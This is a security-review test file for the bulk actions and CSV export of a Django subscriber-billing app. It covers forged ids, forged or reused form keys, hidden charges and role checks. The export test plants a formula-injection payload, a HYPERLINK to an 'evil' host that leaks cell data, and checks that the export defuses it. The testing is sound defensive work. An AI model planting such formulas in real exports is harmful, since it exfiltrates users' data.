"""Attack review of the subscriber export and bulk actions (abonent/bulk).

Tests marked ``FAILS`` in their docstring fail on the code as built (a defect); the others are defences that hold.
"""

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from django.urls import reverse

from abonent.billing import actions as billing
from abonent.billing.models import Charge, LedgerAccount, Subscription
from abonent.bulk import rules
from abonent.bulk.models import BulkAction, BulkActionItem
from abonent.bulk.selection import Selection
from abonent.bulk.views import _fingerprint
from abonent.core import clock
from abonent.core.models import AuditEvent
from abonent.staff.permissions import Role
from abonent.subscribers.actions import do_close_subscriber
from abonent.subscribers.models import SubscriberGroup

pytestmark = pytest.mark.django_db
NOW = dt.datetime(2026, 12, 10, 9, 0, tzinfo=dt.UTC)


@pytest.fixture(autouse=True)
def _now():
    with clock.travel_to(NOW):
        yield


@pytest.fixture
def group(db):
    return SubscriberGroup.objects.create(name="VIP")


@pytest.fixture
def people(make_subscriber, admin, other_branch):
    made = {name: make_subscriber(last_name=f"Bulk{name}", phone=f"+7916555100{i}") for i, name in enumerate("ABCD")}
    made["far"] = make_subscriber(last_name="BulkFar", phone="+79165551009", branch_obj=other_branch)
    do_close_subscriber(made["D"], reason="moved away", acting_user=admin)
    return made


def ids(*subscribers):
    return [str(s.pk) for s in subscribers]


def step(client, data, name):
    return client.post(reverse("bulk:subscribers"), {**data, "step": name})


def previewed(client, data):
    page = step(client, data, "preview")
    html = page.content.decode()
    assert page.status_code == 200, html
    key = re.search(r'name="form_key" value="([0-9a-f]{32})"', html).group(1)
    fingerprint = re.search(r'name="fingerprint" value="([0-9a-f]+)"', html).group(1)
    total = int(re.search(r'id="preview-touched">(\d+)<', html).group(1))
    return total, {**data, "form_key": key, "fingerprint": fingerprint}


# --- the selection --------------------------------------------------------------------------------------------


def test_duplicate_ids_do_not_crowd_real_ones_out_of_the_selection(people, group, operator, client_of):
    """FAILS. ``Selection.from_post`` cuts the posted ids to ``MAX_TICKED`` (500) *before* removing duplicates
    (abonent/bulk/selection.py, ``data.getlist("ids")[:MAX_TICKED]``): 500 copies of A then B previews and acts on A
    only, silently. The preview must count B, or refuse the selection with a 4xx."""
    client = client_of(operator)
    data = {"ids": [str(people["A"].pk)] * 500 + [str(people["B"].pk)], "kind": "group_add", "group": group.pk}
    response = step(client, data, "preview")
    html = response.content.decode()
    if response.status_code == 200:
        assert int(re.search(r'id="preview-touched">(\d+)<', html).group(1)) == 2
    else:
        assert 400 <= response.status_code < 500


def test_ticked_ids_past_the_limit_are_refused_not_silently_dropped(people, group, operator, client_of):
    """FAILS. 501 ticked ids (10,000 in a forged form): the ones past 500 are dropped without a word
    (abonent/bulk/selection.py ``from_post``): the preview says "1 subscriber" for a selection whose 501st id is a
    real second subscriber, and the confirm acts on that smaller set. Expected: a 4xx saying the selection is too
    large (or all of them counted)."""
    client = client_of(operator)
    forged = [str(10_000_000 + i) for i in range(499)]
    data = {"ids": [str(people["A"].pk), *forged, str(people["B"].pk)], "kind": "group_add", "group": group.pk}
    response = step(client, data, "preview")
    html = response.content.decode()
    if response.status_code == 200:
        assert int(re.search(r'id="preview-touched">(\d+)<', html).group(1)) == 2
    else:
        assert 400 <= response.status_code < 500


def test_confirm_acts_on_no_more_than_the_preview_showed(people, make_subscriber, group, operator, client_of):
    """FAILS. "All that match the filter": the fingerprint covers the filter's text, not its result, so a subscriber
    who starts matching between preview and confirm is acted on although the operator was shown N
    (abonent/bulk/views.py ``_fingerprint``; actions.do_confirm_bulk_action re-evaluates the filter). The stored
    ``preview`` is the one recomputed at confirm, not what the operator saw. Expected: the confirm is previewed again
    (the set changed), or acts on the previewed set only."""
    client = client_of(operator)
    data = {"scope": "all", "query": "q=Bulk", "kind": "group_add", "group": group.pk}
    shown, confirm = previewed(client, data)
    assert shown == 4  # A, B, C and far (D is closed; this operator sees every branch)
    make_subscriber(last_name="BulkLate", phone="+79165551077")
    response = step(client, confirm, "confirm")
    if response.status_code == 302:
        action = BulkAction.objects.get()
        assert BulkActionItem.objects.filter(action=action, outcome="done").count() <= shown
    else:
        assert not BulkAction.objects.exists()


def test_a_confirm_needs_a_form_key_the_server_issued(people, group, operator, client_of):
    """FAILS. The "one-time form key" is whatever 32 hex digits the client posts, and the fingerprint is a plain
    sha256 of public values (abonent/bulk/views.py ``_fingerprint``, actions._KEY): a script confirms without ever
    previewing, and a client can reuse its own key at will. Expected: a key the server never issued is refused."""
    client = client_of(operator)
    data = {"ids": ids(people["A"]), "kind": "group_add", "group": str(group.pk)}
    params = rules.Params(kind="group_add", group_id=group.pk)
    selection = Selection((people["A"].pk,), "")
    forged = {**data, "form_key": "0" * 32, "fingerprint": _fingerprint(params, selection)}
    step(client, forged, "confirm")
    assert not BulkAction.objects.exists()
    assert not people["A"].groups.exists()


def test_another_branchs_ids_are_neither_counted_nor_touched(people, group, make_staff, branch, client_of):
    """Holds: a branch-limited operator's forged ids of another branch's subscribers are outside the selection."""
    limited = make_staff(Role.OPERATOR, branches=[branch])
    client = client_of(limited)
    data = {"ids": ids(people["A"], people["far"]), "kind": "group_add", "group": group.pk}
    shown, confirm = previewed(client, data)
    assert shown == 1
    step(client, confirm, "confirm")
    assert not people["far"].groups.exists() and people["A"].groups.exists()
    assert BulkActionItem.objects.count() == 1


def test_non_numeric_nonexistent_and_closed_ids(people, group, operator, client_of):
    """Holds: junk ids are dropped, unknown ids count for nothing, a closed subscriber is skipped."""
    client = client_of(operator)
    junk = ["abc", "-1", "1e3", "١٢", "9" * 40, "", "0x10", str(people["D"].pk), "987654321"]
    data = {"ids": [*junk, str(people["A"].pk)], "kind": "group_add", "group": group.pk}
    shown, confirm = previewed(client, data)
    assert shown == 1
    assert step(client, confirm, "confirm").status_code == 302
    assert BulkActionItem.objects.count() == 2  # A and the closed D
    assert not people["D"].groups.exists()


def test_a_replayed_form_key_runs_once(people, group, operator, client_of):
    """Holds: the same form sent three times makes one action."""
    client = client_of(operator)
    _shown, confirm = previewed(client, {"ids": ids(people["A"], people["B"]), "kind": "group_add", "group": group.pk})
    for _ in range(3):
        assert step(client, confirm, "confirm").status_code == 302
    assert BulkAction.objects.count() == 1
    assert AuditEvent.objects.filter(action="bulk.action_confirmed").count() == 1


def test_a_form_key_of_another_user_does_not_hand_over_their_action(people, group, operator, make_staff, client_of):
    """FAILS. ``do_confirm_bulk_action`` looks the key up without its author (abonent/bulk/actions.py,
    ``BulkAction.objects.filter(form_key=form_key)``): a second user who posts a key already used by someone else
    (a shared or replayed page) gets "sent already" and a redirect to the other user's action, and their own
    confirmation is silently dropped. Expected: the key is per user — a new action, or a refusal."""
    first = client_of(operator)
    _shown, confirm = previewed(first, {"ids": ids(people["A"]), "kind": "group_add", "group": group.pk})
    step(first, confirm, "confirm")
    other = make_staff(Role.OPERATOR)
    second = client_of(other)
    _shown, mine = previewed(second, {"ids": ids(people["B"]), "kind": "group_add", "group": group.pk})
    mine["form_key"] = confirm["form_key"]
    response = step(second, mine, "confirm")
    theirs = BulkAction.objects.get(created_by=operator)
    assert response.status_code != 302 or response["Location"] != reverse("bulk:action", args=[theirs.pk])


# --- the plan change at the period's end -----------------------------------------------------------------------


def test_an_archived_plan_or_another_services_plan_changes_nobody(people, make_plan, admin, operator, client_of):
    """Holds: an archived plan is refused by the form; a plan of another service skips everyone."""
    from abonent.catalog import actions as catalog

    home = make_plan("home", "650.00")
    with clock.travel_to(dt.datetime(2026, 12, 1, 9, 0, tzinfo=dt.UTC)):
        billing.do_activate_subscription(people["A"], plan=home, acting_user=admin)
    old = make_plan("old", "500.00")
    type(old).objects.filter(pk=old.pk).update(is_archived=True)
    tv = catalog.do_create_service(code="tv", name="TV", kind="iptv", acting_user=admin)
    tv_plan = make_plan("tvbasic", "300.00", service=tv)
    client = client_of(operator)
    for plan in (old, tv_plan):
        response = step(client, {"ids": ids(people["A"]), "kind": "plan_change", "plan": plan.pk}, "preview")
        assert response.status_code == 422
    assert not BulkAction.objects.exists()


def test_the_bulk_plan_change_charges_nothing_now_even_after_a_missed_run(
    people, make_plan, admin, operator, client_of
):
    """FAILS. The form promises "nothing is charged or credited now", and the preview counts no money, but
    ``do_change_plan`` first catches up periods a missed run left unbilled (billing/actions/plan_changes.py,
    ``_catch_up``): the confirm posts January's fee on the spot, which neither the preview nor the action page
    mention (abonent/bulk/rules.py has no rule for it)."""
    home = make_plan("home", "650.00")
    game = make_plan("game", "900.00")
    with clock.travel_to(dt.datetime(2026, 12, 1, 9, 0, tzinfo=dt.UTC)):
        billing.do_activate_subscription(people["A"], plan=home, acting_user=admin)
    with clock.travel_to(dt.datetime(2027, 1, 10, 9, 0, tzinfo=dt.UTC)):  # the 1 January run never happened
        billing.do_activate_subscription(people["B"], plan=home, acting_user=admin)  # billed up to date
        charges = Charge.objects.count()
        balance = LedgerAccount.objects.get(subscriber=people["A"]).balance
        client = client_of(operator)
        data = {"ids": ids(people["A"], people["B"]), "kind": "plan_change", "plan": game.pk}
        page = step(client, data, "preview").content.decode()
        # Fixed: A is skipped with its reason (its missed period would be charged now), B is changed.
        assert 'data-reason="billing_pending"' in page
        _shown, confirm = previewed(client, data)
        assert _shown == 1
        step(client, confirm, "confirm")
    assert Subscription.objects.get(subscriber=people["A"]).pending_plan is None
    assert Subscription.objects.get(subscriber=people["B"]).pending_plan == game
    assert BulkActionItem.objects.get(subscriber=people["A"]).reason == "billing_pending"
    assert Charge.objects.count() == charges
    assert LedgerAccount.objects.get(subscriber=people["A"]).balance == balance


def test_a_second_bulk_change_replaces_a_scheduled_one_without_saying_so(people, make_plan, admin, operator, client_of):
    """FAILS. A subscription with a change already scheduled (to ``lite``) is counted as "touched" by a bulk change
    to ``game`` and its scheduled change is overwritten (rules._plan_rules only skips ``pending_plan == plan``).
    No two changes are scheduled, but the preview does not tell the operator it replaces one: expected a skip
    reason (or at least a separate count) for subscriptions with another change pending."""
    home = make_plan("home", "650.00")
    lite = make_plan("lite", "400.00")
    game = make_plan("game", "900.00")
    with clock.travel_to(dt.datetime(2026, 12, 1, 9, 0, tzinfo=dt.UTC)):
        sub = billing.do_activate_subscription(people["A"], plan=home, acting_user=admin)
    billing.do_change_plan(sub, plan=lite, acting_user=admin)
    sub.refresh_from_db()
    assert sub.pending_plan == lite
    client = client_of(operator)
    page = step(client, {"ids": ids(people["A"]), "kind": "plan_change", "plan": game.pk}, "preview")
    html = page.content.decode()
    touched = re.search(r'id="preview-touched">(\d+)<', html)
    assert page.status_code == 422 or (touched and touched.group(1) == "0")


# --- roles and methods ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("role", [Role.CASHIER, Role.SUPPORT, Role.ENGINEER])
def test_roles_without_the_permissions_get_403_everywhere(role, people, group, make_staff, client_of, operator):
    """Holds: cashier, support and engineer may not export, preview, confirm or see an action."""
    client = client_of(make_staff(role))
    assert client.get(reverse("bulk:export"), {"format": "csv"}).status_code == 403
    data = {"ids": ids(people["A"]), "kind": "group_add", "group": group.pk, "step": "preview"}
    assert client.post(reverse("bulk:subscribers"), data).status_code == 403
    mine = client_of(operator)
    _shown, confirm = previewed(mine, {"ids": ids(people["A"]), "kind": "group_add", "group": group.pk})
    assert client.post(reverse("bulk:subscribers"), {**confirm, "step": "confirm"}).status_code == 403
    step(mine, confirm, "confirm")
    assert client.get(reverse("bulk:action", args=[BulkAction.objects.get().pk])).status_code == 403
    assert not AuditEvent.objects.filter(action="subscribers.exported").exists()


def test_get_on_the_bulk_post_endpoint_is_refused(people, group, operator, client_of):
    """Holds: a GET (a link, an image tag) never previews or confirms."""
    client = client_of(operator)
    url = reverse("bulk:subscribers")
    response = client.get(url, {"ids": ids(people["A"]), "kind": "group_add", "group": group.pk, "step": "confirm"})
    assert response.status_code == 405 and not BulkAction.objects.exists()


# --- the export ----------------------------------------------------------------------------------------------


def test_the_export_leaks_no_passport_or_inn_and_defuses_formulas(make_subscriber, operator, client_of):
    """Holds: no passport/INN columns or values; a name starting with "=" is text in CSV."""
    make_subscriber(
        last_name='=HYPERLINK("http://evil/?"&A1)',
        first_name="+cmd",
        middle_name="@SUM(1)",
        phone="+79165559999",
        passport_series="4510",
        passport_number="123456",
        inn="500100732259",
    )
    body = b"".join(client_of(operator).get(reverse("bulk:export"), {"format": "csv"}).streaming_content)
    text = body.decode("utf-8-sig")
    assert "123456" not in text and "500100732259" not in text and "4510" not in text
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row if cell)


def test_the_export_of_an_unknown_format_is_a_4xx_not_a_500(people, operator, client_of):
    """Holds unless it 500s: ``format=pdf``."""
    response = client_of(operator).get(reverse("bulk:export"), {"format": "pdf"})
    assert 400 <= response.status_code < 500


def test_balance_in_the_export_is_the_ledgers(people, admin, operator, client_of):
    """Holds: the balance column is the account's balance."""
    billing.do_adjust_balance(people["A"], amount=Decimal("-123.45"), reason="t", acting_user=admin)
    body = b"".join(client_of(operator).get(reverse("bulk:export"), {"format": "csv"}).streaming_content)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    row = next(r for r in rows if r[0] == people["A"].account_number)
    assert row[5] == "-123,45"
